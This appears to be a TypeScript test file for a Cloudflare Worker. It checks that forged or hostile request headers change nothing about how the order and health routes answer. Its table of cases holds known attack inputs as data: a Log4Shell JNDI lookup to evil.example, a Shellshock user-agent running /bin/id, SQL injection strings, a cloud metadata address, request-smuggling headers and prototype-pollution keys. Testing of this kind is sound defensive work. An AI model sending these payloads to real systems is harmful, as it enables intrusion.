import { env } from "cloudflare:workers";
import { FORM, post, type Case, type Theme } from "../support/case.ts";
import { GIVEN } from "../support/given.ts";
import { ROUTES } from "../support/routes.ts";
import { good } from "../support/signing.ts";

/** Headers that nothing here may go by. The request is granted as it is without them. */
const FORGED: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  "another host": { host: "evil.example" },
  "a host with a port of words": { host: "gateway.test:x" },
  "a host that is an address inside": { host: "169.254.169.254" },
  "another forwarded host": { "x-forwarded-host": "evil.example", "x-host": "evil.example" },
  "a chain of addresses": { "x-forwarded-for": "10.0.0.1, 127.0.0.1, ::1" },
  "an address that is SQL": { "x-forwarded-for": "' or 1=1--" },
  "Cloudflare's own headers": {
    "cf-ray": "x",
    "cf-visitor": '{"scheme":"http"}',
    "cf-ipcountry": "T1",
    "cf-worker": "evil.example",
    "cdn-loop": "cloudflare; subreqs=1",
  },
  "another protocol": {
    "x-forwarded-proto": "http",
    "x-forwarded-ssl": "off",
    forwarded: "proto=http",
  },
  "another path": { "x-original-url": "/admin/apps", "x-rewrite-url": "/admin/apps" },
  "another method": { "x-http-method-override": "DELETE" },
  "a request id of its own": { "x-request-id": "forged" },
  "a trace of its own": { traceparent: "00-forged", "x-b3-traceid": "forged" },
  "an origin": { origin: "https://evil.example", referer: "https://evil.example/" },
  "a null origin": { origin: "null" },
  cookies: { cookie: `session=${GIVEN.token}; __proto__=1` },
  "somebody's token": { authorization: `Bearer ${GIVEN.token}` },
  "the operator's token": { authorization: `Bearer ${env.ADMIN_TOKEN}` },
  "a range": { range: "bytes=0-0,1-1" },
  conditions: { "if-none-match": "*", "if-match": '"x"', "if-modified-since": "x" },
  "an expectation": { expect: "100-continue" },
  "an upgrade": { upgrade: "websocket", connection: "Upgrade" },
  "what HTTP/2 begins with": { "http2-settings": "AAMAAABkAAQAAP__" },
  "no wish but for XML": {
    accept: "text/xml",
    "accept-charset": "utf-7",
    "accept-encoding": "*;q=0",
  },
  "a language of SQL": { "accept-language": "' or 1=1--" },
  "a lookup": { "user-agent": "${jndi:ldap://evil.example/a}" },
  "a shell's words": { "user-agent": "() { :; }; /bin/id" },
  "a user agent of thirty thousand letters": { "user-agent": "x".repeat(30_000) },
  "a header beyond ASCII": { "x-name": "中文\u202e" },
  prototypes: { __proto__: "x", constructor: "x" },
  "a length that is a lie": { "content-length": "5" },
  "a way of sending that is a lie": { "transfer-encoding": "chunked" },
  "two ways of sending": { "transfer-encoding": "chunked, identity", "content-length": "0" },
};

const headed = (name: string, headers: Readonly<Record<string, string>>): readonly Case[] => [
  {
    name: `granted: ${name}`,
    route: "POST /order",
    answer: "app 0",
    request: (scene) => ({
      path: "/order",
      init: post(good(ROUTES["POST /order"], scene).toString(), FORM, headers),
    }),
  },
  {
    name: `refused all the same: ${name}`,
    route: "POST /order",
    answer: "app 501",
    request: () => ({
      path: "/order",
      init: post(`appId=1&order_id=1&sign=${GIVEN.sign}`, FORM, headers),
    }),
  },
  {
    name: `as well as ever: ${name}`,
    route: "GET /health",
    answer: "health",
    // It asks whether the orders' objects answer.
    may: "calls",
    request: () => ({ path: "/health?__proto__=1", init: { headers } }),
  },
];

export const headers: Theme = [
  ...Object.entries(FORGED).flatMap(([name, given]) => headed(name, given)),
  {
    name: "HEAD, which is GET without a body",
    route: "GET /health",
    answer: "health",
    // It asks whether the orders' objects answer.
    may: "calls",
    request: () => ({ path: "/health", init: { method: "HEAD" } }),
  },
  {
    name: "a query of sixty thousand letters",
    route: "GET /health",
    answer: "health",
    // It asks whether the orders' objects answer.
    may: "calls",
    request: () => ({ path: `/health?${"a=1&".repeat(15_000)}`, init: {} }),
  },
];
